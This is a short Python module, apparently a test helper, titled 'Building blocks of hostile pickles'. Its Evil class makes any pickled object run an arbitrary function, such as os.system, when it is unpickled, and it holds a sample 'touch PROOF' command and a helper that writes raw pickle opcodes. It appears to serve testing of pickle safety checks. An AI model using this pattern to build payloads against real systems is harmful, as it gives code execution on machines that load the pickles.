"""Building blocks of hostile pickles."""

import os
import struct

SYSTEM = f"{os.system.__module__}.system"  # posix.system, nt.system
TOUCH = "touch PROOF"


class Evil:
    """An object whose pickle calls the given function."""

    def __init__(self, function, *arguments):
        self.call = function, arguments

    def __reduce__(self):
        return self.call


def unicode(text):
    return b"X" + struct.pack("<I", len(text)) + text.encode()
